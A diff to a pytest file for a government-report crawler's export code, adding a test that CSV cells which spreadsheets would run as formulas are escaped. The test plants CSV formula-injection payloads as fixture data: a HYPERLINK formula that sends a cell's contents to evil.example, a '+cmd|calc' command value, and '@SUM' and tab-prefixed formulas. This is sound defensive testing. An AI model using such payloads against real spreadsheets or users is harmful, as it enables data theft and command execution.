@@ -17,6 +17,7 @@ from sqlalchemy.orm import Session
 
 from crawler.analysis.export import DICTIONARY, FILES, ExportError, Filters, export
 from crawler.cli import main
+from crawler.errors import MissingExtra
 from crawler.storage import db
 from crawler.storage.store import ReportWriter
 from tests.test_views import seed_item, zhucheng_2017
@@ -169,7 +170,7 @@ def test_parquet_keeps_types(sqlite_seeded, tmp_path):
 def test_parquet_without_pyarrow_says_how_to_install_it(sqlite_seeded, tmp_path, monkeypatch):
     monkeypatch.setitem(sys.modules, "pyarrow", None)
     monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
-    with pytest.raises(ExportError, match=r"pip install 'govreports\[export\]'"):
+    with pytest.raises(MissingExtra, match=r"pip install 'govreports\[export\]'"):
         run_export(sqlite_seeded, tmp_path, "parquet")
 
 
@@ -190,11 +191,14 @@ def test_bad_input_is_refused_before_anything_is_written(sqlite_seeded, tmp_path
 
 
 def test_a_missing_or_old_database_is_refused(tmp_path):
-    with pytest.raises(ExportError, match="no database at"):
+    with pytest.raises(db.DatabaseMissing, match="no database at"):
         run_export(f"sqlite:///{tmp_path}/missing.db", tmp_path / "out")
+    assert not (tmp_path / "missing.db").exists()
     old = f"sqlite:///{tmp_path}/old.db"
     db.upgrade(old, "0003")
-    with pytest.raises(ExportError, match=rf"revision 0003, not {db.head_revision(old)}: run `govreports db upgrade`"):
+    with pytest.raises(
+        db.SchemaError, match=rf"revision 0003, not {db.head_revision(old)}: run `govreports db upgrade`"
+    ):
         run_export(old, tmp_path / "out")
 
 
@@ -208,3 +212,41 @@ def test_cli_prints_what_it_wrote_and_refuses_bad_input(sqlite_seeded, tmp_path,
 
     assert main(["export", "--database-url", sqlite_seeded, "--out", str(out), "--metric", "litigation.totl"]) == 2
     assert "govreports: unknown metric code 'litigation.totl'; close codes: litigation.total" in capsys.readouterr().err
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_escaped(tmp_path):
+    url = f"sqlite:///{tmp_path}/hostile.db"
+    engine = db.ensure_schema(url)
+    item = zhucheng_2017()
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"诸城市人民政府2017年政府信息公开工作年度报告")'
+    item.title = hostile
+    with Session(engine) as session, session.begin():
+        writer = ReportWriter(session)
+        writer.write(item)
+        writer.write(dongying_2019())
+        session.execute(text("UPDATE bodies SET name = '@SUM(1+1)' WHERE name = '东营市人民政府'"))
+        session.execute(text("UPDATE reports SET url = '+cmd|calc' WHERE title = :t"), {"t": hostile})
+        session.execute(text("UPDATE report_metrics SET raw_value = '-3' WHERE raw_value = '88'"))
+        session.execute(
+            text(
+                "INSERT INTO validation_findings (report_id, rule, severity, detail) "
+                "SELECT id, 'sum', 'warning', char(9) || '=1+1' FROM reports"
+            )
+        )
+    engine.dispose()
+    out = tmp_path / "out"
+    assert main(["export", "--database-url", url, "--out", str(out)]) == 0
+    reports = {r["year"]: r for r in read_csv(out / "reports.csv")}
+    assert reports["2017"]["title"] == "'" + hostile
+    assert reports["2019"]["body"] == "'@SUM(1+1)"
+    assert reports["2017"]["url"] == "'+cmd|calc"
+    values = read_csv(out / "metric_values.csv")
+    assert "-3" in {r["raw_value"] for r in values}  # a signed plain number is no formula
+    assert {r["body"] for r in values} == {"诸城市人民政府", "'@SUM(1+1)"}
+    findings = read_csv(out / "findings.csv")
+    assert [r["detail"] for r in findings] == ["'\t=1+1", "'\t=1+1"]
+    assert "is written with a ' in front" in (out / "README.md").read_text("utf-8")
+    # the other formats keep the values as stored
+    assert main(["export", "--database-url", url, "--out", str(tmp_path / "j"), "--format", "jsonl"]) == 0
+    rows = [json.loads(line) for line in (tmp_path / "j" / "reports.jsonl").read_text("utf-8").splitlines()]
+    assert hostile in {r["title"] for r in rows}
